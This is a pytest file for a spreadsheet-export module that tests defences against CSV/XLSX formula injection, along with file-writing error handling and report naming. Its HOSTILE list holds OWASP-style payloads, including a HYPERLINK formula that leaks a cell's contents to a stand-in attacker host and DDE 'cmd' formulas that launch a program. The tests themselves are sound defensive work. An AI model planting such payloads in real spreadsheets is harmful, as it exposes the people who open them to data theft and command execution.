"""`allpfit.spreadsheet`: the one formula-injection rule, read back cell by cell.

The files are read back the way a spreadsheet would see them: the XLSX with openpyxl (a cell
whose data_type is 'f' is a live formula), the CSV with the csv module (a cell that starts with
`=`, `+`, `-`, `@`, tab or CR would be run by Excel/LibreOffice).
"""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from allpfit.errors import ConfigError
from allpfit.spreadsheet import formula_like, write_csv, write_xlsx

# Payloads from OWASP's CSV-injection page and the hostile-input audit.
HOSTILE = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Clique aqui")',
    "=cmd|' /C calc'!A0",
    "+55 11 98765-4321",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "-",
]
HARMLESS = ["Ana Souza", "", "João (11) 98765-4321", "a=b", "100%", "-5", "-1.234,5", "12"]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_catches_every_payload(text: str) -> None:
    assert formula_like(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_formula_like_leaves_plain_text_and_plain_numbers(text: str) -> None:
    assert not formula_like(text)


ROWS: list[list[object]] = [
    [1, name, -5, -2.5, Decimal("-1.50"), date(2026, 1, 5), None] for name in HOSTILE + HARMLESS
]
HEADERS = ["id", "=nome", "dias", "score", "valor", "data", "vazio"]


def test_csv_cells_that_could_be_formulas_are_text_and_numbers_stay_numbers(
    tmp_path: Path,
) -> None:
    path = write_csv(tmp_path / "r.csv", HEADERS, ROWS)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle, delimiter=";"))
    assert lines[0] == ["id", "'=nome", "dias", "score", "valor", "data", "vazio"]
    for line, name in zip(lines[1:], HOSTILE + HARMLESS, strict=True):
        assert line[1] == ("'" + name if name in HOSTILE else name)
        assert line[2:] == ["-5", "-2.5", "-1.50", "2026-01-05", ""]  # numbers stay numbers
    for line in lines:
        for cell in line:
            if cell.startswith(DANGEROUS_START):
                assert cell.lstrip("-").replace(".", "").replace(",", "").isdigit(), cell
    assert [p.name for p in tmp_path.iterdir()] == ["r.csv"]  # no .partial left


def test_xlsx_never_holds_a_formula_and_keeps_the_text_as_it_was(tmp_path: Path) -> None:
    write_xlsx(tmp_path / "r.xlsx", [("Conversões", HEADERS, ROWS), ("Outra", ["=x"], [["@y"]])])
    book = load_workbook(tmp_path / "r.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert len(cells) == 7 * (1 + len(ROWS)) + 2
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    sheet = book["Conversões"]
    assert sheet["B1"].value == "=nome" and sheet["B1"].data_type == "s"
    assert sheet["B1"].quotePrefix
    for number, name in enumerate(HOSTILE + HARMLESS, start=2):
        cell = sheet.cell(number, 2)
        # the text exactly (openpyxl writes a CR through lxml as &#13;), not a "'"-prefixed copy
        assert cell.value == (name or None)
        assert cell.quotePrefix == (name in HOSTILE)
        assert [sheet.cell(number, c).value for c in (3, 4)] == [-5, -2.5]
        assert sheet.cell(number, 3).data_type == "n"  # a negative number is a number
    assert book["Outra"]["A2"].value == "@y" and book["Outra"]["A2"].quotePrefix


def test_xlsx_drops_characters_a_workbook_cannot_hold(tmp_path: Path) -> None:
    """A contact name with a control character must not stop the report from being written."""
    write_xlsx(tmp_path / "r.xlsx", [("S", ["nome"], [["Ana\x00\x01\x1b Souza\tX"]])])
    assert load_workbook(tmp_path / "r.xlsx").active["A2"].value == "Ana Souza\tX"  # type: ignore[index]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_unwritable_folder_is_a_clear_error_and_leaves_nothing(
    tmp_path: Path, suffix: str
) -> None:
    blocker = tmp_path / "reports"
    blocker.write_text("a file where the reports folder should be")
    target = blocker / f"r{suffix}"
    with pytest.raises(ConfigError) as err:
        if suffix == ".csv":
            write_csv(target, ["a"], [["b"]])
        else:
            write_xlsx(target, [("S", ["a"], [["b"]])])
    assert f"Cannot write {target}" in err.value.message
    assert err.value.hint is not None and "DATA_DIR" in err.value.hint
    assert sorted(p.name for p in tmp_path.iterdir()) == ["reports"]


def test_report_names_carry_the_tenant_and_never_overwrite(tmp_path: Path) -> None:
    from allpfit.spreadsheet import report_stem

    first = report_stem(tmp_path, "crm_match", "allpfit", ".csv", ".xlsx")
    first.with_suffix(".xlsx").write_text("x")
    again = report_stem(tmp_path, "crm_match", "allpfit", ".csv", ".xlsx")
    other = report_stem(tmp_path, "crm_match", "equilibrio", ".csv", ".xlsx")
    assert first.name.startswith("crm_match_allpfit_") and again != first
    assert other.name.startswith("crm_match_equilibrio_")
